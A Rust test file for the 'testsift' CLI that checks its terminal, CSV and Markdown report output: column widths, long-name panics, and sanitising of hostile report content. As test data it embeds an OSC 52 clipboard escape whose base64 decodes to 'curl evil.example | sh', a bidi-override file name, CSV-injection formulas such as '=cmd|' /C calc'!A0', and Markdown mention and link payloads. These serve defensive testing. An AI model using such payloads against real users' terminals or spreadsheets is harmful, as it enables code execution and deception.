//! Terminal, CSV and Markdown output of `flaky`, `slow`, `trim` and `stats`, on the real
//! binary: no cell length panics (issue 18, point 2), tables fit 100 columns with `--top`,
//! `--wide` and `--verbose` (issue 13, point 7), no control character or bidi override from a
//! report reaches the terminal (issue 18, point 3), and Markdown escapes what GitHub would act
//! on (issue 18, point 11).

// A failed unwrap in a test is a test failure with a backtrace, which is what we want.
#![allow(clippy::unwrap_used)]

mod common;

use common::*;
use std::fmt::Write as _;
use std::path::Path;

/// Runs `testsift ARGS... --store STORE` and returns its stdout, asserting exit 0 and no panic.
fn run(store: &Path, args: &[&str]) -> String {
    let out = testsift()
        .args(args)
        .arg("--store")
        .arg(store)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{args:?}: exit {:?}\n{}",
        out.status.code(),
        stderr(&out)
    );
    stdout(&out)
}

#[track_caller]
fn assert_fits(what: &str, text: &str) {
    for line in text.lines() {
        let n = line.chars().count();
        assert!(n <= 100, "{what}: a line of {n} columns:\n{line}");
    }
}

fn escape_xml(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A history of `runs` runs that exercises every table: 30 tests of long parametrised names in
/// three long packages, a long variant and run ids, flaky tests with multi-line failure
/// messages of long lines, a test broken for the last 5 runs, one that got slower half-way,
/// suites that take hours, two shards per run, two infrastructure failures, and one report
/// that does not parse.
fn write_long_history(dir: &Path, runs: usize) {
    let variant = format!("ubuntu-22.04-x86_64-openjdk-21-{}", "v".repeat(90));
    // A fixed linear congruential sequence: the same history on every machine.
    let mut seed: u64 = 42;
    let mut next = move || {
        seed = seed
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (seed >> 33) as f64 / f64::from(1u32 << 31)
    };
    for r in 0..runs {
        let run_id = format!("pipeline-{r:04}-{}", "p".repeat(60));
        let run_dir = dir.join(format!("run-{r:04}"));
        write(
            &run_dir.join("run.json"),
            format!(
                "{{\"run_id\": \"{run_id}\", \"commit\": \"{:040x}\", \"branch\": \"main\", \"timestamp\": \"2026-01-{:02}T{:02}:00:00Z\", \"variant\": \"{variant}\"}}\n",
                r * 7919,
                1 + r / 24,
                r % 24
            ),
        );
        let infrastructure = r == 10 || r == 20;
        for shard in 0..2 {
            let suite = format!(
                "com.example.{}.Suite{shard}",
                "deeply.nested.package.name".repeat(4)
            );
            let mut xml = format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuite name=\"{suite}\">\n"
            );
            for t in 0..15 {
                let k = shard * 15 + t;
                let name = format!(
                    "test{k}_with_a_long_parametrised_name[{}]",
                    "param=value,".repeat(12)
                );
                let mut seconds = 400.0 + 10.0 * k as f64 + 5.0 * next();
                if k == 3 && r >= runs / 2 {
                    seconds *= 3.0;
                }
                let failed =
                    infrastructure || (k < 25 && next() < 0.15) || (k == 29 && r + 5 >= runs);
                write!(
                    xml,
                    "  <testcase classname=\"{suite}\" name=\"{}\" time=\"{seconds:.3}\"",
                    escape_xml(&name)
                )
                .unwrap();
                if failed {
                    let message = format!("expected {k} but was {r}: {}", "detail ".repeat(40));
                    write!(
                        xml,
                        ">\n    <failure message=\"{}\" type=\"java.lang.AssertionError\">java.lang.AssertionError: {}\n\tat {suite}.test{k}({}.java:{k})\n\tat org.junit.runners.ParentRunner.run(ParentRunner.java:413)\n</failure>\n  </testcase>\n",
                        escape_xml(&message),
                        escape_xml(&message),
                        "File".repeat(30),
                    )
                    .unwrap();
                } else {
                    xml.push_str("/>\n");
                }
            }
            xml.push_str("</testsuite>\n");
            write(
                &run_dir
                    .join(format!("shard-{shard}"))
                    .join("TEST-suite.xml"),
                xml,
            );
        }
    }
    write(
        &dir.join("run-0003")
            .join(format!("TEST-{}.xml", "truncated".repeat(20))),
        "<testsuite name=\"x\"><testcase name=\"y\" time=\"1\">",
    );
}

#[test]
fn every_table_line_fits_100_columns() {
    let dir = tempfile::tempdir().unwrap();
    let history = dir.path().join("history");
    write_long_history(&history, 120);
    let store = dir.path().join("store");
    let out = ingest(&store, &[&history], &["--quiet"]);
    assert!(out.status.success(), "{}", stderr(&out));

    let flaky = run(&store, &["flaky"]);
    let slow = run(&store, &["slow"]);
    let trim = run(&store, &["trim", "--min-runs", "5"]);
    let stats = run(&store, &["stats"]);
    for (what, text) in [
        ("flaky", &flaky),
        ("slow", &slow),
        ("trim", &trim),
        ("stats", &stats),
    ] {
        assert_fits(what, text);
    }

    // The infrastructure failures in one line; --verbose lists them.
    assert!(
        flaky.contains("\ninfrastructure failures: runs where over 80.0% of the tests failed; --verbose lists them\n"),
        "{flaky}"
    );
    let verbose = run(&store, &["flaky", "--verbose"]);
    assert_fits("flaky --verbose", &verbose);
    let listed = verbose.lines().filter(|l| l.ends_with(" 30 of 30")).count();
    assert_eq!(listed, 2, "{verbose}");
    // At most 20 tests, then how many more; names cut in the middle, keeping the test's end.
    assert!(
        flaky.contains("… 6 more (use --top N or --wide)"),
        "{flaky}"
    );
    assert!(flaky.contains("….Suite1::test21_wit…am=value,]"), "{flaky}");
    assert!(!flaky.contains("\tat "), "{flaky}");
    let top = run(&store, &["flaky", "--top", "3"]);
    assert!(top.contains("… 23 more (use --top N or --wide)"), "{top}");

    // Durations in the unit a person reads.
    assert!(slow.contains(" h of test time"), "{slow}");
    assert!(!slow.contains("total s"), "{slow}");
    assert!(
        slow.contains("\n… 98 more (use --top N or --wide)\n"),
        "{slow}"
    );

    // --wide prints every cell in full.
    for (args, needle) in [
        (&["flaky", "--wide"][..], "param=value,".repeat(12)),
        (
            &["slow", "--wide"][..],
            "deeply.nested.package.name".repeat(4),
        ),
        (
            &["trim", "--min-runs", "5", "--wide"][..],
            "param=value,".repeat(12),
        ),
        (&["stats", "--wide"][..], "truncated".repeat(20)),
    ] {
        let text = run(&store, args);
        assert!(text.contains(&needle), "{args:?}:\n{text}");
        assert!(text.lines().any(|l| l.chars().count() > 100), "{args:?}");
    }

    // JSON and CSV are not cut.
    let csv = run(&store, &["flaky", "--format", "csv"]);
    assert!(csv.contains(&"param=value,".repeat(12)));
    assert!(csv.contains(&"detail ".repeat(10)));
}

/// One test whose classname, name, suite and variant are each `n` characters long.
fn write_long_name_run(dir: &Path, n: usize) {
    let long = "n".repeat(n);
    write(
        &dir.join("run.json"),
        format!(
            "{{\"run_id\": \"r1\", \"commit\": \"c1\", \"timestamp\": \"2026-01-01T00:00:00Z\", \"variant\": \"{long}\"}}\n"
        ),
    );
    write(
        &dir.join("TEST-long.xml"),
        format!(
            "<testsuite name=\"S{long}\"><testcase classname=\"C{long}\" name=\"t{long}\" time=\"1\"><failure message=\"m{long}\">x</failure></testcase><testcase classname=\"C\" name=\"ok\" time=\"1\"/></testsuite>\n"
        ),
    );
}

/// Names and variants of 65,536 characters or more made `flaky` and `slow` panic ("Formatting
/// argument out of range"); no length may, and the table still fits.
#[test]
fn long_names_neither_panic_nor_widen_the_table() {
    for n in [65_536, 70_000, 200_000] {
        let dir = tempfile::tempdir().unwrap();
        let history = dir.path().join("history");
        write_long_name_run(&history.join("run-1"), n);
        let store = dir.path().join("store");
        let out = ingest(&store, &[&history], &["--quiet"]);
        assert!(out.status.success(), "{}", stderr(&out));
        for command in ["flaky", "slow", "trim", "stats"] {
            let text = run(&store, &[command]);
            assert_fits(command, &text);
            if command != "stats" {
                assert!(text.contains("nnn…nnn"), "{command}: {text}");
            }
            // The whole of a name, up to what the parser keeps, with --wide.
            let wide = run(&store, &[command, "--wide"]);
            if command != "stats" {
                assert!(
                    wide.contains(&"n".repeat(testsift::junit::TEXT_MAX - 64)),
                    "{command} --wide"
                );
            }
        }
    }
}

const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}";
const BIDI: &str = "\u{202e}";

/// A store at `dir/store` of one run, `dir/history/run-1`, holding `files` (name, content)
/// beside its run.json.
fn one_run_store(dir: &Path, files: &[(&str, &str)]) -> std::path::PathBuf {
    let run = dir.join("history").join("run-1");
    write(
        &run.join("run.json"),
        "{\"run_id\": \"r1\", \"commit\": \"c1\", \"timestamp\": \"2026-01-01T00:00:00Z\"}\n",
    );
    for (name, content) in files {
        write(&run.join(name), content);
    }
    let store = dir.join("store");
    let out = ingest(&store, &[dir.join("history")], &["--quiet"]);
    assert!(out.status.success(), "{}", stderr(&out));
    store
}

/// A report whose suite, classname, test name and failure message hold an OSC 52 sequence
/// (which sets the terminal's clipboard) and a bidi override, and a report that does not
/// parse, named with both.
fn hostile_store(dir: &Path) -> std::path::PathBuf {
    let evil = format!("evil{OSC52}x{BIDI}exe.txt");
    let report = format!(
        "<testsuite name=\"S{evil}\"><testcase classname=\"C{evil}\" name=\"t{evil}\" time=\"1\"><failure message=\"m{evil}\">m{evil}\nline two</failure></testcase><testcase classname=\"C\" name=\"ok\" time=\"1\"/></testsuite>\n"
    );
    let bad = format!("bad-{evil}.xml");
    one_run_store(
        dir,
        &[
            ("TEST-a.xml", &report),
            (&bad, "<testsuite><testcase name=\"y\" time=\"1\">"),
        ],
    )
}

/// C0 and C1 controls other than newline, DEL, and the bidi overrides and isolates.
fn unsafe_char(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
}

/// No unsafe character is left, and with `whole` the sequence shows as visible escapes (a
/// table that fits 100 columns may cut the name anywhere).
#[track_caller]
fn assert_no_escapes(what: &str, text: &str, whole: bool) {
    let bad: Vec<char> = text.chars().filter(|&c| unsafe_char(c)).collect();
    assert!(bad.is_empty(), "{what}: {bad:?} in\n{text}");
    let needle = "evil\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07x\\u{202e}exe";
    assert!(
        !whole || text.contains(needle),
        "{what}: the escaped name is missing:\n{text}"
    );
}

#[test]
fn no_control_character_from_a_report_reaches_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let store = hostile_store(dir.path());
    for (args, whole) in [
        (&["flaky"][..], false),
        (&["flaky", "--format", "csv"], true),
        (&["slow"], false),
        (&["slow", "--format", "csv"], true),
        (&["slow", "--format", "csv", "--csv-table", "tests"], true),
        (&["trim", "--min-runs", "1"], false),
        (&["trim", "--format", "csv"], true),
        (&["stats"], false),
        (&["flaky", "--wide"], true),
        (&["slow", "--wide"], true),
        (&["trim", "--min-runs", "1", "--wide"], true),
        (&["stats", "--wide"], true),
    ] {
        let text = run(&store, args);
        assert_no_escapes(&args.join(" "), &text, whole);
    }
}

/// A classname, test name and message that a spreadsheet opening the CSV would run as
/// formulas (CSV injection) stay text: every field that starts with `=`, `+`, `-` or `@` and is
/// not a number gets a `'` before it. Negative numbers stay numbers.
#[test]
fn csv_fields_a_spreadsheet_would_run_as_formulas_stay_text() {
    let dir = tempfile::tempdir().unwrap();
    let store = one_run_store(
        dir.path(),
        &[(
            "TEST-a.xml",
            "<testsuite name=\"@suite\"><testcase classname=\"=cmd|' /C calc'!A0\" name=\"=HYPERLINK(&quot;http://evil.example/&quot;,&quot;x&quot;)\" time=\"1\"><failure message=\"-2+3\">+SUM(1)</failure></testcase><testcase classname=\"C\" name=\"ok\" time=\"1\"/></testsuite>\n",
        )],
    );
    for args in [
        &["flaky", "--format", "csv"][..],
        &["slow", "--format", "csv"],
        &["slow", "--format", "csv", "--csv-table", "tests"],
        &["trim", "--format", "csv", "--min-runs", "1"],
    ] {
        let csv = run(&store, args);
        // Split as RFC 4180 says: quoted fields may hold commas and doubled quotes.
        let mut fields = Vec::new();
        for line in csv.lines() {
            let (mut field, mut quoted, mut chars) =
                (String::new(), false, line.chars().peekable());
            while let Some(c) = chars.next() {
                match c {
                    '"' if quoted && chars.peek() == Some(&'"') => {
                        field.push('"');
                        chars.next();
                    }
                    '"' => quoted = !quoted,
                    ',' if !quoted => fields.push(std::mem::take(&mut field)),
                    _ => field.push(c),
                }
            }
            fields.push(field);
        }
        assert!(
            fields
                .iter()
                .any(|f| f.starts_with("'=") || f.starts_with("'@")),
            "{args:?}: the formula name is missing:\n{csv}"
        );
        for f in &fields {
            let formula =
                f.len() > 1 && f.starts_with(['=', '+', '-', '@']) && f.parse::<f64>().is_err();
            assert!(!formula, "{args:?}: {f:?} would run as a formula:\n{csv}");
        }
    }
}

#[test]
fn markdown_escapes_mentions_links_and_strikethrough() {
    let dir = tempfile::tempdir().unwrap();
    let hostile = "@everyone see https://evil.example/x ~~struck~~";
    let report = format!(
        "<testsuite name=\"S {hostile}\"><testcase classname=\"C\" name=\"{hostile}\" time=\"1\"><failure message=\"{hostile}\">{hostile}</failure></testcase><testcase classname=\"C\" name=\"ok\" time=\"1\"/></testsuite>\n"
    );
    let store = one_run_store(dir.path(), &[("TEST-a.xml", &report)]);
    for args in [
        &["flaky", "--format", "md"][..],
        &["slow", "--format", "md"],
        &["trim", "--format", "md", "--min-runs", "1"],
    ] {
        let md = run(&store, args);
        assert!(!md.contains("@everyone"), "{args:?}:\n{md}");
        assert!(!md.contains("https://"), "{args:?}:\n{md}");
        assert!(!md.contains("~~"), "{args:?}:\n{md}");
        assert!(
            md.contains("&#64;\u{200b}everyone see https\\://evil\\.example/x \\~\\~struck\\~\\~"),
            "{args:?}:\n{md}"
        );
    }
}
